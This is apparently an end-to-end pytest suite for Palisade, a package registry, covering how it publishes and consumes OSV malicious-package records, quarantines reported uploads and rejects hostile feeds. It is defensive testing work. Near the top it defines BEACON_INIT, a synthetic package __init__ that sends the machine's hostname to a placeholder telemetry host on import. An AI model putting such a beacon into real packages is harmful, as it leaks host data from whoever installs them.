"""Information sharing end to end (docs/sharing.md), with the real binary and the real clients:

- out: an administrator confirms a held upload as malicious and Palisade publishes an OSV record
  of it (validated against the OSV JSON Schema), served as OSV.dev's export layout and answered
  by `POST /osv/v1/query`, exported for ossf/malicious-packages; releasing the file withdraws it;
- in: the real ossf/malicious-packages records as a feed: uploads of listed releases are refused
  with 403 naming the record, a hosted release disappears from the index and its file answers
  403 (pip and uv fail loudly), a withdrawn record blocks nothing, a listed hash blocks a file
  under any name, a waiver lifts a block, and vulnerability records show in the JSON API;
- two instances: B subscribes to A's `/osv/PyPI/`; A confirms, and B refuses and hides the same
  release within a minute, with no person in between; A's withdrawal lifts B's block;
- reports: PyPI's observations API, trusted reporters, the auto-quarantine rule, and a signed
  webhook.

Every "malicious" package here is synthetic and inert: code in a string, written into an
archive and never run; the real records name real malicious packages but no files of theirs.
"""

from __future__ import annotations

import hashlib
import hmac
import http.server
import io
import json
import threading
import time
import zipfile
from pathlib import Path

import jsonschema
import pytest
import requests

from distbuilder import SdistBuilder, WheelBuilder, file_sha256
from support import Server, eventually

REPO_ROOT = Path(__file__).resolve().parents[2]
MALICIOUS_PACKAGES = REPO_ROOT / "crates" / "palisade-osv" / "tests" / "fixtures" / "malicious-packages"
SCHEMA = json.loads((Path(__file__).parent / "fixtures" / "osv" / "osv-schema.json").read_text())

# An __init__ that sends the host name somewhere as it is imported: held for review.
BEACON_INIT = (
    "import socket\n"
    "import urllib.request\n"
    "urllib.request.urlopen('https://telemetry.example.invalid/ping?h=' + socket.gethostname())\n"
)


def validate(record: dict) -> None:
    jsonschema.validate(record, SCHEMA, cls=jsonschema.Draft202012Validator)


def write_config(path: Path, text: str) -> dict[str, str]:
    path.write_text(text)
    return {"PALISADE_CONFIG": str(path)}


def feed_config(name: str, source: str, interval: str | None = None) -> str:
    extra = f'interval = "{interval}"\n' if interval else ""
    return f'[[sharing.feeds]]\nname = "{name}"\nsource = "{source}"\n{extra}'


def until(predicate, timeout: float = 15, interval: float = 0.2):
    """Waits until `predicate()` is truthy, and returns it."""

    def check():
        value = predicate()
        assert value, "not yet"
        return value

    return eventually(check, timeout, interval)


def listed(s: Server, project: str) -> list[str]:
    r = s.simple_json(project)
    return [f["filename"] for f in r.json()["files"]] if r.status_code == 200 else []


# ---- out: Palisade's verdicts as OSV ------------------------------------------------------------


def test_confirmed_upload_becomes_a_record_served_and_withdrawn(make_server, clients, tmp_path):
    s = make_server({"PALISADE_PUBLIC_URL": "https://pkgs.example.test"})
    s.create_user("evil-owner")
    token = s.create_token("evil-owner")
    held = WheelBuilder("beacon-e2e", "1.0", init_source=BEACON_INIT).build(tmp_path / "held")
    clients.twine_upload(s, token, held)
    assert s.cli("quarantine", "list").stdout.count(held.name) == 1
    record_id = s.cli("quarantine", "confirm", held.name, "--note", "phones home on import").stdout.strip()
    assert record_id.startswith(f"x_PALISADE-{time.gmtime().tm_year}-"), record_id

    r = s.get(f"/osv/PyPI/{record_id}.json")
    assert r.status_code == 200 and r.headers["content-type"] == "application/json", r.text
    record = r.json()
    validate(record)
    assert record["id"] == record_id and record["schema_version"].startswith("1.7.")
    assert record["summary"] == "Malicious code in beacon-e2e (PyPI)"
    (affected,) = record["affected"]
    assert affected["package"] == {"ecosystem": "PyPI", "name": "beacon-e2e"}
    assert affected["versions"] == ["1.0"]
    assert [c["cweId"] for c in affected["database_specific"]["cwes"]] == ["CWE-506"]
    (integrity,) = affected["database_specific"]["indicators"]["package_integrity"]
    assert integrity["filename"] == held.name and integrity["hashes"]["sha256"] == file_sha256(held)
    # The details name the finding (file and line) and carry the reviewer's note.
    assert "beacon_e2e/__init__.py:" in record["details"] and "phones home on import" in record["details"], record["details"]
    assert record["credits"][0]["name"] == "Palisade at pkgs.example.test" and record["credits"][0]["type"] == "FINDER"
    assert record["published"] and record["modified"] and "withdrawn" not in record

    # OSV.dev's export layout agrees with itself.
    z = zipfile.ZipFile(io.BytesIO(s.get("/osv/PyPI/all.zip").content))
    assert z.namelist() == [f"{record_id}.json"]
    assert json.loads(z.read(f"{record_id}.json")) == record
    csv = s.get("/osv/PyPI/modified_id.csv").text
    assert csv == f"{record['modified']},{record_id}\n", csv

    # OSV's query API, for one package and version.
    q = s.api("POST", "/osv/v1/query", json={"package": {"name": "Beacon_E2E", "ecosystem": "PyPI"}, "version": "1.0"})
    assert q.status_code == 200 and [v["id"] for v in q.json()["vulns"]] == [record_id], q.text
    assert s.api("POST", "/osv/v1/query", json={"package": {"purl": "pkg:pypi/beacon-e2e@2.0"}}).json() == {}
    bad = s.api("POST", "/osv/v1/query", json={"commit": "6879efc2c1596d11a6a6ad296f80063b558d5e0f"})
    assert bad.status_code == 400, bad.text

    # Exported in ossf/malicious-packages' layout, and as a contribution to it.
    out = tmp_path / "export"
    s.cli("osv", "export", str(out))
    assert json.loads((out / "osv" / "malicious" / "pypi" / "beacon-e2e" / f"{record_id}.json").read_text()) == record
    s.cli("osv", "export", "--contribute", str(tmp_path / "contrib"))
    (contribution,) = (tmp_path / "contrib").rglob("MAL-0000-*.json")
    body = json.loads(contribution.read_text())
    assert "id" not in body and "summary" not in body and body["affected"] == record["affected"], body

    # A wrong call undone: the release publishes the file again and withdraws the record.
    s.cli("quarantine", "release", held.name, "--note", "a test fixture after all")
    withdrawn = s.get(f"/osv/PyPI/{record_id}.json").json()
    validate(withdrawn)
    assert withdrawn["withdrawn"] and withdrawn["modified"] >= record["modified"], withdrawn
    assert s.get("/osv/PyPI/modified_id.csv").text == f"{withdrawn['modified']},{record_id}\n"
    until(lambda: listed(s, "beacon-e2e") == [held.name])
    assert s.get(f"/files/{held.name}").status_code == 200
    s.cli("osv", "export", str(tmp_path / "export2"))
    assert (tmp_path / "export2" / "osv" / "withdrawn" / "pypi" / "beacon-e2e" / f"{record_id}.json").is_file()


def test_export_access_is_configurable(make_server, tmp_path):
    closed = make_server({"PALISADE_SHARING_EXPORT": "off"})
    assert closed.get("/osv/PyPI/modified_id.csv").status_code == 404
    members = make_server({"PALISADE_SHARING_EXPORT": "authenticated"})
    assert members.get("/osv/PyPI/all.zip").status_code == 401
    members.create_user("reader")
    token = members.create_token("reader")
    r = members.get("/osv/PyPI/all.zip", headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200 and zipfile.ZipFile(io.BytesIO(r.content)).namelist() == []


# ---- in: OSV feeds enforced ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def fed(palisade_bin, tmp_path_factory, sink):
    """A server that hosts `123bla` 0.0.1 before any feed is configured."""
    root = tmp_path_factory.mktemp("srv-sharing-in")
    s = Server(palisade_bin, root, "sharing_in", sink.env()).start()
    s.create_user("bla-owner", email="bla-owner@example.test")
    s.token = s.create_token("bla-owner")
    yield s
    s.stop()


def test_feed_of_real_records_blocks_uploads_indexes_and_downloads(fed, sink, clients, tmp_path):
    s = fed
    hosted = WheelBuilder("123bla", "0.0.1").build(tmp_path / "hosted")
    clients.twine_upload(s, s.token, hosted)
    assert listed(s, "123bla") == [hosted.name]
    mark = sink.mark()

    # The operator subscribes to ossf/malicious-packages (a checkout) and syncs from the CLI;
    # the running server, whose own configuration has no feed, enforces it within its poll.
    config = write_config(tmp_path / "feed.toml", feed_config("ossf", str(MALICIOUS_PACKAGES)))
    out = s.cli("osv", "sync", env_extra=config)
    assert "ossf: 3 record(s) about PyPI packages, 0 skipped; 3 added" in out.stderr, out.stderr
    assert f"MAL-2024-10238 blocks 123bla: {hosted.name}" in out.stdout, out.stdout
    until(lambda: listed(s, "123bla") == [])
    r = s.get(f"/files/{hosted.name}")
    assert r.status_code == 403 and "MAL-2024-10238" in r.reason and "Malicious code in 123bla" in r.reason, (r.status_code, r.reason)
    assert s.get(f"/files/{hosted.name}.metadata").status_code == 403
    assert s.get("/pypi/123bla/json").status_code == 404
    # Its owner is told, once.
    mail = sink.wait_for(to="bla-owner@example.test", subject_contains="MAL-2024-10238", start=mark, timeout=20)
    assert hosted.name in mail.body, mail.body

    # pip and uv fail loudly on the pinned version.
    pip = clients.pip_install(s, "123bla==0.0.1", target=tmp_path / "pip", check=False)
    assert pip.returncode != 0, clients.describe(pip)
    uv = clients.uv_install(s, "123bla==0.0.1", target=tmp_path / "uv", check=False)
    assert uv.returncode != 0, clients.describe(uv)

    # Uploads of listed releases are refused, naming the record, before the scanner and the
    # name checks (0requests imitates requests; the refusal is the record's).
    for name, record in (("0requests", "MAL-2026-15859"), ("123bla", "MAL-2024-10238")):
        f = SdistBuilder(name, "0.0.1").build(tmp_path / name)
        proc = clients.twine_upload(s, s.token, f, check=False)
        assert "403" in proc.output and record in proc.output, proc.output
    # A withdrawn record (fastapi 0.136.3, a false positive) blocks nothing.
    ok = WheelBuilder("fastapi", "0.136.3").build(tmp_path / "fastapi")
    clients.twine_upload(s, s.token, ok)
    assert listed(s, "fastapi") == [ok.name]

    # A waiver, for one project and with a reason, lifts the block; lifting the waiver restores it.
    s.cli("osv", "waive", "123bla", "MAL-2024-10238", "--reason", "our own 123bla, not the one on PyPI")
    until(lambda: listed(s, "123bla") == [hosted.name])
    assert s.get(f"/files/{hosted.name}").status_code == 200
    assert "MAL-2024-10238" in s.cli("osv", "waivers").stdout
    s.cli("osv", "waive", "123bla", "MAL-2024-10238", "--off")
    until(lambda: listed(s, "123bla") == [])
    events = s.cli("audit", "--project", "123bla", "--json").stdout
    assert "osv_waived" in events and "osv_waiver_lifted" in events, events


def test_listed_hash_blocks_a_file_under_any_name_and_vulnerabilities_show(fed, clients, tmp_path):
    s = fed
    renamed = WheelBuilder("innocent-name", "3.1").build(tmp_path / "renamed")
    vulnerable = WheelBuilder("vulnpkg", "1.0").build(tmp_path / "vuln")
    clients.twine_upload(s, s.token, vulnerable)
    folder = tmp_path / "feed"
    (folder / "malicious").mkdir(parents=True)
    (folder / "vulns").mkdir()
    mal = {
        "schema_version": "1.7.4",
        "id": "MAL-2026-990001",
        "modified": "2026-11-01T00:00:00Z",
        "summary": "Malicious code in something-else (PyPI)",
        "affected": [{
            "package": {"ecosystem": "PyPI", "name": "something-else"},
            "versions": ["9.9"],
            "database_specific": {"indicators": {"package_integrity": [
                {"filename": "something_else-9.9-py3-none-any.whl", "hashes": {"sha256": file_sha256(renamed)}},
            ]}},
        }],
    }
    vuln = {
        "schema_version": "1.7.4",
        "id": "PYSEC-2026-990002",
        "modified": "2026-11-02T00:00:00Z",
        "aliases": ["CVE-2026-990002"],
        "summary": "Path traversal in vulnpkg",
        "details": "vulnpkg before 2.0 writes outside its folder.",
        "affected": [{
            "package": {"ecosystem": "PyPI", "name": "vulnpkg"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}],
        }],
    }
    (folder / "malicious" / "MAL-2026-990001.json").write_text(json.dumps(mal))
    (folder / "vulns" / "PYSEC-2026-990002.json").write_text(json.dumps(vuln))
    (folder / "vulns" / "broken.json").write_text("{not json")
    config = write_config(tmp_path / "feed.toml", feed_config("local", str(folder)))
    offset = s.log_size()
    out = s.cli("osv", "sync", env_extra=config)
    assert "local: 2 record(s) about PyPI packages, 1 skipped" in out.stderr and "broken.json" in out.stderr, out.stderr
    # The hash decides, whatever the name and version (once the server has reloaded).
    until(lambda: "blocking records loaded" in s.log_text(offset))
    proc = clients.twine_upload(s, s.token, renamed, check=False)
    assert "MAL-2026-990001" in proc.output, proc.output
    # A vulnerability blocks nothing; the JSON API shows it as PyPI does.
    assert listed(s, "vulnpkg") == [vulnerable.name]
    body = s.get("/pypi/vulnpkg/json").json()
    (v,) = body["vulnerabilities"]
    assert v["id"] == "PYSEC-2026-990002" and v["fixed_in"] == ["2.0"] and v["aliases"] == ["CVE-2026-990002"], v
    assert v["withdrawn"] is None and v["link"].endswith("PYSEC-2026-990002"), v
    # Bad feed sources are refused with a clear error; nothing changes.
    bad = write_config(tmp_path / "bad.toml", feed_config("nowhere", str(tmp_path / "missing")))
    r = s.cli("osv", "sync", env_extra=bad, check=False)
    assert r.returncode == 1 and "nowhere: could not be read" in r.stderr, r.stderr
    assert listed(s, "vulnpkg") == [vulnerable.name]


# ---- instances warn each other -----------------------------------------------------------------


def test_one_instance_warns_another_within_a_minute(make_server, clients, tmp_path):
    a = make_server()
    b = make_server(start=False)
    b.env.update(write_config(tmp_path / "b.toml", feed_config("instance-a", f"{a.url}/osv/PyPI/", "2s")))
    b.start()
    for srv in (a, b):
        srv.create_user("shared-owner")
        srv.token = srv.create_token("shared-owner")
    # B hosts shared-e2e 1.0 (as a mirror of A, say); A is where the bad one shows up.
    on_b = WheelBuilder("shared-e2e", "1.0").build(tmp_path / "b")
    clients.twine_upload(b, b.token, on_b)
    held = WheelBuilder("shared-e2e", "1.0", init_source=BEACON_INIT).build(tmp_path / "a")
    clients.twine_upload(a, a.token, held)
    assert listed(b, "shared-e2e") == [on_b.name]

    started = time.monotonic()
    record_id = a.cli("quarantine", "confirm", held.name).stdout.strip()
    until(lambda: listed(b, "shared-e2e") == [], timeout=60, interval=0.5)
    elapsed = time.monotonic() - started
    print(f"instance B stopped serving {on_b.name} {elapsed:.1f} s after A confirmed {record_id}")
    assert elapsed < 60
    r = b.get(f"/files/{on_b.name}")
    assert r.status_code == 403 and record_id in r.reason, (r.status_code, r.reason)
    sdist = SdistBuilder("shared-e2e", "1.0").build(tmp_path / "sdist")
    proc = clients.twine_upload(b, b.token, sdist, check=False)
    assert record_id in proc.output, proc.output

    # A withdraws (its release of the file): B serves again at its next sync (incremental).
    a.cli("quarantine", "release", held.name)
    until(lambda: listed(b, "shared-e2e") == [on_b.name], timeout=60, interval=0.5)
    assert "instance-a" in b.cli("osv", "feeds").stdout


# ---- reports and auto-quarantine ----------------------------------------------------------------


def serve_http(handler: type[http.server.BaseHTTPRequestHandler]) -> http.server.ThreadingHTTPServer:
    """A local HTTP server for `handler`, in a thread (quiet)."""
    handler.log_message = lambda *args: None  # type: ignore[method-assign]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class Receiver:
    """A webhook receiver that keeps what it got."""

    def __init__(self):
        self.got: list[tuple[dict, bytes]] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802
                body = self.rfile.read(int(self.headers["content-length"]))
                outer.got.append(({k.lower(): v for k, v in self.headers.items()}, body))
                self.send_response(204)
                self.end_headers()

        self.server = serve_http(Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/hook"

    def events(self) -> list[str]:
        return [json.loads(b)["event"] for _, b in self.got]


def report(s: Server, token: str, project: str, **body) -> requests.Response:
    headers = {"Authorization": f"Bearer {token}", "Accept": "application/vnd.pypi.api-v0-danger+json"}
    return s.api("POST", f"/danger-api/projects/{project}/observations", headers=headers, json=body)


def test_reports_trusted_reporters_auto_quarantine_and_webhooks(make_server, clients, tmp_path):
    hook = Receiver()
    secret = "whsec-e2e-0123456789"
    s = make_server(start=False)
    s.env.update(write_config(tmp_path / "hooks.toml", f'[[sharing.webhooks]]\nurl = "{hook.url}"\nsecret = "{secret}"\n'))
    s.start()
    s.create_user("owner")
    owner_token = s.create_token("owner")
    for name in ("alice", "bob", "carol"):
        s.create_user(name)
    s.cli("user", "trust-reporter", "carol")
    alice = s.cli("token", "create", "--user", "alice", "--action", "report").stdout.strip()
    bob = s.cli("token", "create", "--user", "bob", "--action", "report").stdout.strip()
    carol = s.cli("token", "create", "--user", "carol", "--action", "report").stdout.strip()
    upload_only = s.cli("token", "create", "--user", "bob", "--action", "upload").stdout.strip()
    for project in ("young-e2e", "old-e2e", "release-e2e"):
        for version in ("1.0", "2.0"):
            clients.twine_upload(s, owner_token, WheelBuilder(project, version).build(tmp_path / project / version))
    evidence = "https://inspector.example.test/project/x/1.0/"

    # The API's refusals.
    assert report(s, upload_only, "young-e2e", kind="is_malware", summary="x", inspector_url=evidence).status_code == 403
    assert report(s, alice, "young-e2e", kind="is_malware", summary="x").status_code == 400  # no inspector_url
    assert report(s, alice, "young-e2e", kind="is_malware", summary="x", inspector_url="http://plain.example/").status_code == 400
    assert report(s, alice, "young-e2e", kind="is_bad", summary="x", inspector_url=evidence).status_code == 400
    assert report(s, alice, "no-such-e2e", kind="is_spam", summary="x").status_code == 404
    assert s.api("POST", "/danger-api/projects/young-e2e/observations", json={"kind": "is_spam", "summary": "x"}).status_code == 401

    # An ordinary reporter's report is recorded, and quarantines nothing.
    r = report(s, alice, "young-e2e", kind="is_malware", summary="steals tokens at import", inspector_url=evidence)
    assert r.status_code == 202 and r.json() == {"project": "young-e2e", "thanks": "for the observation"}, r.text
    assert len(listed(s, "young-e2e")) == 2
    # A trusted reporter on a project younger than 24 h: quarantined at once.
    r = report(s, carol, "young-e2e", kind="is_malware", summary="confirmed: token stealer", inspector_url=evidence)
    assert r.status_code == 202 and r.json()["quarantined"] == "project", r.text
    until(lambda: s.simple_json("young-e2e").json()["project-status"]["status"] == "quarantined")
    assert listed(s, "young-e2e") == []

    # An older project needs two distinct reporters of whom one is trusted (PyPI's rule).
    s.execute_sql("UPDATE projects SET created_at = created_at - 3 * 86400000000 WHERE normalized IN ('old-e2e', 'release-e2e')")
    r = report(s, carol, "old-e2e", kind="is_malware", summary="bad", inspector_url=evidence)
    assert "quarantined" not in r.json(), r.text
    r = report(s, bob, "old-e2e", kind="is_spam", summary="spam only")
    assert "quarantined" not in r.json(), r.text  # only malware reports count
    r = report(s, bob, "old-e2e", kind="is_malware", summary="bad too", inspector_url=evidence)
    assert r.json()["quarantined"] == "project", r.text

    # A report naming a version quarantines that release only.
    report(s, bob, "release-e2e", kind="is_malware", summary="2.0 is bad", inspector_url=evidence, version="2.0")
    r = report(s, carol, "release-e2e", kind="is_malware", summary="2.0 is bad", inspector_url=evidence, version="2.0")
    assert r.json()["quarantined"] == {"files": ["release_e2e-2.0-py3-none-any.whl"]}, r.text
    assert listed(s, "release-e2e") == ["release_e2e-1.0-py3-none-any.whl"]
    # The review queue shows the reports; the decision is recorded against each reporter.
    s.cli("quarantine", "confirm", "release_e2e-2.0-py3-none-any.whl")
    reports = s.cli("osv", "reports", "--project", "release-e2e").stdout
    assert "by carol (trusted)" in reports and "confirmed" in reports, reports
    admin = s.create_user("root", admin=True)
    listing = s.api("GET", "/api/reports", session=admin["session"]).json()["reports"]
    carols = [x for x in listing if x["reporter"]["name"] == "carol" and x["project"] == "release-e2e"]
    assert carols and carols[0]["outcome"] == "confirmed" and carols[0]["reporter"]["confirmed"] >= 1, carols

    # The webhook got every event, each signed with its secret.
    events = until(lambda: hook.events() if {"report", "quarantine", "confirm"} <= set(hook.events()) else None, timeout=30)
    assert events.count("report") >= 6, events
    for headers, body in hook.got:
        expected = "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()
        assert headers["palisade-signature"] == expected, headers
        assert headers["content-type"] == "application/json", headers
    confirm = next(json.loads(b) for _, b in hook.got if json.loads(b)["event"] == "confirm")
    assert confirm["details"]["filename"] == "release_e2e-2.0-py3-none-any.whl", confirm


# ---- hostile and accidental feeds ---------------------------------------------------------------


def mal_record(n: int, name: str, version: str = "1.0") -> dict:
    return {
        "schema_version": "1.7.4",
        "id": f"MAL-2026-{880000 + n}",
        "modified": "2026-11-01T00:00:00Z",
        "summary": f"Malicious code in {name} (PyPI)",
        "affected": [{"package": {"ecosystem": "PyPI", "name": name}, "versions": [version]}],
    }


class Stub:
    """An HTTP server answering every GET with what `answer(path)` returns: (status, headers, body)."""

    def __init__(self, answer):
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                status, headers, body = answer(self.path)
                self.send_response(status)
                for k, v in headers.items():
                    self.send_header(k, v)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = serve_http(Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/osv/PyPI/"


def test_hostile_and_accidental_feeds_change_nothing(make_server, clients, tmp_path):
    s = make_server()
    s.create_user("hostile-owner")
    token = s.create_token("hostile-owner")
    names = [f"guarded-{i}" for i in range(12)]
    for name in names:
        clients.twine_upload(s, token, WheelBuilder(name, "1.0").build(tmp_path / name))
    folder = tmp_path / "feed"
    folder.mkdir()
    for i in range(150):
        (folder / f"r{i}.json").write_text(json.dumps(mal_record(i, f"elsewhere-{i}")))
    (folder / "guard.json").write_text(json.dumps(mal_record(999, "guarded-0")))
    config = write_config(tmp_path / "feed.toml", feed_config("local", str(folder)))
    s.cli("osv", "sync", env_extra=config)
    until(lambda: listed(s, "guarded-0") == [])

    # A checkout that lost its files is not applied: the blocks stay.
    for p in folder.glob("*.json"):
        p.unlink()
    r = s.cli("osv", "sync", env_extra=config, check=False)
    assert r.returncode == 1 and "holds 0 records where it held 151" in r.stderr and "--force" in r.stderr, r.stderr
    feeds = s.cli("osv", "feeds", env_extra=config).stdout
    assert "holds 0 records" in feeds and " 151 " in feeds, feeds  # the problem, beside what the last sync found
    assert listed(s, "guarded-0") == []
    # Unless the operator says so.
    s.cli("osv", "sync", "--force", env_extra=config)
    until(lambda: len(listed(s, "guarded-0")) == 1)
    # A feed that would block most of what is hosted is not applied either.
    for i, name in enumerate(names):
        (folder / f"all-{i}.json").write_text(json.dumps(mal_record(500 + i, name)))
    r = s.cli("osv", "sync", env_extra=config, check=False)
    assert r.returncode == 1 and "would newly block 12 of the 12 hosted projects" in r.stderr, r.stderr
    assert len(listed(s, "guarded-5")) == 1
    s.cli("osv", "sync", "--force", env_extra=config)
    until(lambda: listed(s, "guarded-5") == [])

    # A feed removed from the configuration no longer blocks, once forgotten.
    refused = s.cli("osv", "forget", "local", env_extra=config, check=False)
    assert refused.returncode == 1 and "still in [[sharing.feeds]]" in refused.stderr, refused.stderr
    s.cli("osv", "forget", "local")
    until(lambda: len(listed(s, "guarded-5")) == 1)

    # Hostile answers from a URL feed: refused, with the reason; nothing applied.
    other = Stub(lambda path: (302, {"location": "http://localhost:9/osv/PyPI/all.zip"}, b""))
    r = s.cli("osv", "sync", env_extra=write_config(tmp_path / "redirect.toml", feed_config("redirect", other.url)), check=False)
    assert r.returncode == 1 and "redirect: could not be read" in r.stderr and "302" in r.stderr, r.stderr
    garbage = Stub(lambda path: (200, {"content-type": "application/zip"}, b"PK\x03\x04 not really a zip"))
    r = s.cli("osv", "sync", env_extra=write_config(tmp_path / "garbage.toml", feed_config("garbage", garbage.url)), check=False)
    assert r.returncode == 1 and "zip" in r.stderr, r.stderr
    r = s.cli("osv", "sync", env_extra=write_config(tmp_path / "http.toml", feed_config("plain", "http://feeds.example.test/osv/PyPI/")), check=False)
    assert r.returncode == 1 and "plain http is refused" in r.stderr, r.stderr
    assert len(listed(s, "guarded-5")) == 1
